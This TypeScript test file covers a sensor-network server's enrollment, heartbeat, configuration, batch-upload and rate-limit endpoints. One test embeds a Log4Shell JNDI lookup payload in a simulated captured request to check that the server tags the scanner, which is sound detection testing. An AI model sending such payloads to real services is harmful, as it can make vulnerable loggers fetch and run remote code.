import { randomBytes } from 'node:crypto'
import { request as askingAt } from 'node:http'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { connection } from '#packet/testing/exchange.ts'
import { uuidV7 } from '#store/identifier.ts'
import { type Agent, agentAt, batchOf, beat, enrolling, toldBeside } from '../product/agent.ts'
import { type Inside, openInside } from '../product/inside.ts'

/** What agents of sensors and the server say to each other (docs/sensors.md). */

let inside: Inside
let workspace: string
let quiet: string

beforeAll(async () => {
  inside = await openInside()
  const { workspaces } = inside.deps.installation
  const now = Date.now()
  workspace = (await workspaces.create({ name: 'Ours', publish: true, now })).id
  quiet = (await workspaces.create({ name: 'Quiet', publish: false, now })).id
})
afterAll(() => inside.close())

const sensorsOf = (of = workspace) => inside.deps.installation.workspace(of).sensors

const token = async (of = workspace): Promise<string> => {
  const now = Date.now()
  const made = { profile: 'linux-server', madeBy: 'user u', now, expires: now + 60_000 }
  return (await sensorsOf(of).tokens.create(made)).secret
}

const post = (path: string, body: unknown) =>
  fetch(new URL(path, inside.url), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })

async function enrolled(of = workspace): Promise<{ id: string; agent: Agent; secret: string }> {
  const answer = await post('/api/sensor/enroll', enrolling(await token(of)))
  expect(answer.status).toBe(201)
  const { sensor_id: id, sensor_token: secret } = (await answer.json()) as Record<string, string>
  return { id: id!, secret: secret!, agent: agentAt(inside.url, secret!) }
}

const visit = (source: string, request: string) =>
  connection(request, 'HTTP/1.1 200 OK\r\n\r\n', { source, destination: '10.0.0.7', at: Date.now() - 500 })

const recordOf = async (ip: string) =>
  (await (await fetch(new URL(`/api/ip/${ip}`, inside.url))).json()) as {
    internet_scanner_intelligence: { found: boolean; tags?: { slug: string }[] }
  }

describe('enrolling', () => {
  test('takes a token once, tells the sensor what it is to do, and where it is reached', async () => {
    const secret = await token()
    const answer = await post('/api/sensor/enroll', enrolling(secret))
    expect(answer.status).toBe(201)
    const said = (await answer.json()) as Record<string, never>
    expect(said).toMatchObject({
      name: expect.stringMatching(/^\w+ \w+$/),
      sensor_token: expect.stringMatching(/^nfs_/),
      received_at: expect.any(Number),
      config: {
        version: 1,
        profile: { id: 'linux-server', operating_system: 'Debian GNU/Linux 12' },
        capture: { is_on: true, excluded: [], network_ports: [], segment_ms: 1000 },
        limits: { connections_per_source: 64 },
        heartbeat_ms: 15_000,
      },
    })
    // Keys that are data stay as they are written.
    expect(JSON.stringify(said)).toContain('"headers":{"Content-Type":"text/html"}')
    expect((await sensorsOf().get(said['sensor_id']!))?.sensor.ipAddress).toBe('8.8.4.4')
    expect((await post('/api/sensor/enroll', enrolling(secret))).status).toBe(401)
  })

  test('refuses what no token is, and says what is wrong with a body', async () => {
    expect((await post('/api/sensor/enroll', enrolling(`nfi_${'A'.repeat(43)}`))).status).toBe(401)
    const answer = await post('/api/sensor/enroll', enrolling(await token(), { addresses: 'x' }))
    expect([answer.status, ((await answer.json()) as { message: string }).message]).toEqual([
      400,
      expect.stringContaining('addresses'),
    ])
  })
})

test('a sensor’s token opens its own calls and no others, and no other key opens those', async () => {
  const { secret } = await enrolled()
  for (const path of ['/api/user', '/api/captures', '/v3/ip/8.8.8.8', '/api/workspace/keys'])
    expect((await fetch(new URL(path, inside.url), { headers: { key: secret } })).status, path).toBe(401)
  const { secret: key } = await inside.deps.installation.keys.create({ workspace, now: Date.now() })
  for (const one of [key, `nfs_${'A'.repeat(43)}`, ''])
    expect((await agentAt(inside.url, one).json('/api/sensor/heartbeat', 'POST', beat())).status).toBe(401)
  expect((await post('/api/sensor/heartbeat', beat())).status).toBe(401)
})

test('a heartbeat is what is known of the sensor, losses by their names', async () => {
  const { agent, id } = await enrolled()
  const answer = await agent.json('/api/sensor/heartbeat', 'POST', beat())
  expect([answer.status, await answer.json()]).toEqual([
    200,
    { received_at: expect.any(Number), config_version: 1, update: null },
  ])
  expect((await sensorsOf().get(id))?.health).toMatchObject({
    lastHeartbeat: expect.any(Number),
    said: { losses: { 'dropped by kernel': 3 }, listening: [{ port: 22 }] },
  })
  const wrong = await agent.json('/api/sensor/heartbeat', 'POST', beat({ checks: [{ name: 'mood' }] }))
  expect(wrong.status).toBe(400)
})

describe('the configuration', () => {
  test('is held back until it is newer, and told at once when it is', async () => {
    const { agent, id } = await enrolled()
    expect((await agent.get('/api/sensor/config?after=0&wait=25')).status).toBe(200)
    expect((await agent.get('/api/sensor/config?after=1&wait=0')).status).toBe(204)
    const waiting = agent.get('/api/sensor/config?after=1&wait=25')
    await vi.waitFor(() => expect(inside.limits.counts.inUse('waits')).toBe(1))
    await sensorsOf().change(id, { profile: 'home-router' }, { actor: 'x', now: Date.now() })
    const answer = await waiting
    expect([answer.status, await answer.json()]).toMatchObject([
      200,
      { version: 2, profile: { id: 'home-router' } },
    ])
    expect(inside.limits.counts.inUse('waits')).toBe(0)
  })

  test('of one that is removed while it waits is none: its token has ended', async () => {
    const { agent, id } = await enrolled()
    const waiting = agent.get('/api/sensor/config?after=1&wait=25')
    await vi.waitFor(() => expect(inside.limits.counts.inUse('waits')).toBe(1))
    await sensorsOf().remove(id, Date.now())
    expect((await waiting).status).toBe(401)
    expect((await agent.json('/api/sensor/heartbeat', 'POST', beat())).status).toBe(401)
  })
})

describe('a batch', () => {
  test('is taken once, however often and at once it is sent, and its sessions are the sensor’s', async () => {
    const { agent, id } = await enrolled()
    const bytes = batchOf(visit('198.18.77.1', 'GET /one HTTP/1.1\r\nHost: h\r\n\r\n'))
    const batch = uuidV7(Date.now())
    const answers = await Promise.all([1, 2, 3].map(() => agent.put(bytes, { id: batch })))
    const receipts = (await Promise.all(answers.map((one) => one.json()))) as { is_repeated: boolean }[]
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 200])
    expect(receipts.filter((one) => !one.is_repeated)).toHaveLength(1)
    expect(receipts[0]).toMatchObject({ id: batch, sessions: 1 })
    expect(await (await agent.get(`/api/sensor/batches/${batch}`)).json()).toMatchObject({
      id: batch,
      sessions: 1,
      is_repeated: true,
    })
    expect((await agent.get(`/api/sensor/batches/${uuidV7(Date.now())}`)).status).toBe(404)
    expect((await sensorsOf().get(id))?.health.lagMs).toBeGreaterThan(0)
    // What another sensor names so is another batch, and what it says of one that it did not send is nothing.
    const other = await enrolled()
    expect((await other.agent.get(`/api/sensor/batches/${batch}`)).status).toBe(404)
    expect(await (await other.agent.put(bytes, { id: batch })).json()).toMatchObject({ is_repeated: false })
  })

  test('that is damaged on its way, no capture, or too large is refused, and may be sent again', async () => {
    const { agent } = await enrolled()
    const bytes = batchOf(visit('198.18.77.2', 'GET / HTTP/1.1\r\n\r\n'))
    const id = uuidV7(Date.now())
    const damaged = await agent.put(bytes, { id, sha256: '0'.repeat(64) })
    expect([damaged.status, ((await damaged.json()) as { message: string }).message]).toEqual([
      400,
      expect.stringContaining('X-SHA256'),
    ])
    expect((await agent.put(new Uint8Array(randomBytes(100)))).status).toBe(422)
    expect((await agent.put(new Uint8Array(9 << 20))).status).toBe(413)
    expect((await agent.put(bytes, { id })).status).toBe(200)
  })

  test('shows on the page of the address in seconds, with the tags of what only the decoy knows', async () => {
    const { agent } = await enrolled()
    const request = 'GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: h\r\nUser-Agent: x\r\n\r\n'
    const encrypted = connection('\x16\x03\x01\x00\x02xx\x17\x03\x03\x00\x04abcd', 'y', {
      source: '198.18.77.3',
      destination: '10.0.0.7',
      destinationPort: 443,
      at: Date.now() - 500,
    })
    const at = Date.now()
    const told = toldBeside(encrypted, {
      kind: 'clear',
      at,
      protocol: 'https',
      bytes: Buffer.from(request, 'latin1').toString('base64'),
    })
    expect((await agent.put(batchOf(told))).status).toBe(200)
    await vi.waitFor(
      async () => {
        const { internet_scanner_intelligence: found } = await recordOf('198.18.77.3')
        expect(found.found).toBe(true)
        expect(JSON.stringify(found)).toMatch(/log4/i)
      },
      { timeout: 600_000, interval: 200 },
    )
  })

  test('of one workspace that are still being sent leave room for another’s', async () => {
    const [one, other, quieter] = [await enrolled(), await enrolled(), await enrolled(quiet)]
    const held = [one, other].flatMap(({ secret }) =>
      Array.from({ length: 6 }, () => {
        const sending = askingAt(new URL(`/api/sensor/batches/${uuidV7(Date.now())}`, inside.url), {
          method: 'PUT',
          headers: { authorization: `Bearer ${secret}`, 'content-length': 1000 },
        })
        sending.on('error', () => undefined)
        sending.write('.')
        return sending
      }),
    )
    const { counts } = inside.limits
    await vi.waitFor(() => expect(counts.inUse('uploads')).toBe(12), { timeout: 600_000 })
    const bytes = batchOf(visit('198.18.77.21', 'GET / HTTP/1.1\r\n\r\n'))
    const refused = await one.agent.put(bytes)
    expect([refused.status, await refused.json()]).toEqual([
      429,
      expect.objectContaining({
        exceeded: expect.objectContaining({ limit: 'uploads', of: 'workspace', now: 12 }),
      }),
    ])
    expect((await quieter.agent.put(bytes)).status).toBe(200)
    for (const sending of held) sending.destroy()
    await vi.waitFor(() => expect(counts.inUse('uploads')).toBe(0), { timeout: 600_000 })
    expect((await one.agent.put(bytes)).status).toBe(200)
  })

  test('of a workspace that does not publish, of a sensor that does not, or of a program beside it is in no global record', async () => {
    const [hidden, shy, beside] = [await enrolled(quiet), await enrolled(), await enrolled()]
    await sensorsOf().change(shy.id, { publish: false }, { actor: 'x', now: Date.now() })
    const [one, two, three, four] = ['198.18.77.11', '198.18.77.12', '198.18.77.13', '198.18.77.14']
    const request = 'GET / HTTP/1.1\r\n\r\n'
    await hidden.agent.put(batchOf(visit(one!, request)))
    await shy.agent.put(batchOf(visit(two!, request)))
    const frames = visit(three!, '').map((frame) => ({ ...frame, comments: ['noisefloor-kind:network'] }))
    await beside.agent.put(batchOf(frames))
    await beside.agent.put(batchOf(visit(four!, request)))
    await inside.deps.drained()
    await vi.waitFor(
      async () => expect((await recordOf(four!)).internet_scanner_intelligence.found).toBe(true),
      { timeout: 600_000, interval: 200 },
    )
    for (const ip of [one, two, three])
      expect((await recordOf(ip!)).internet_scanner_intelligence.found, ip).toBe(false)
  })

  test('of a clock that is wrong is moved by what it lacks, and of one that is nearly right is left', async () => {
    const { agent, id } = await enrolled()
    const hour = 3_600_000
    const frames = visit('198.18.77.21', 'GET / HTTP/1.1\r\n\r\n').map((frame) => ({
      ...frame,
      at: frame.at + hour,
    }))
    expect(await (await agent.put(batchOf(frames), { sentAt: Date.now() + hour })).json()).toMatchObject({
      sessions: 1,
    })
    await agent.put(batchOf(visit('198.18.77.22', 'GET / HTTP/1.1\r\n\r\n')), { sentAt: Date.now() - 1000 })
    const batches = await sensorsOf().batches.list({ sensor: id, since: 0, limit: 9 })
    const shifts = await Promise.all(
      batches.map(async ({ capture }) => {
        const kept = await inside.deps.installation.captures.get(capture)
        return Math.round((kept?.shiftMs ?? Number.NaN) / hour)
      }),
    )
    expect(shifts.sort((a, b) => a - b)).toEqual([-1, 0])
  })
})

test('one that leaves is known to have left, and its token ends', async () => {
  const { agent, id } = await enrolled()
  expect((await agent.json('/api/sensor/leave', 'POST')).status).toBe(204)
  expect((await sensorsOf().get(id))?.sensor.ended).not.toBeNull()
  expect((await agent.json('/api/sensor/leave', 'POST')).status).toBe(401)
})

test('one that calls without a pause is told to wait, and no other is', async () => {
  const [hasty, other] = [await enrolled(), await enrolled()]
  const ask = async ({ agent }: typeof hasty) => (await agent.get('/api/sensor/config?after=1')).status
  expect(await untilToldToWait(() => ask(hasty))).toContain(429)
  expect(await ask(other)).toBe(204)
})

test('one that tells without a pause how it fares is told to wait before that is read, and may do all else', async () => {
  const { agent } = await enrolled()
  const tell = async () => (await agent.json('/api/sensor/heartbeat', 'POST', 'nothing')).status
  expect(await untilToldToWait(tell)).toEqual(new Set([400, 429]))
  expect((await agent.get('/api/sensor/config?after=1')).status).toBe(204)
})

async function untilToldToWait(call: () => Promise<number>): Promise<Set<number>> {
  const statuses = new Set<number>()
  for (let round = 0; round < 30 && !statuses.has(429); round++)
    for (const status of await Promise.all(Array.from({ length: 20 }, call))) statuses.add(status)
  return statuses
}
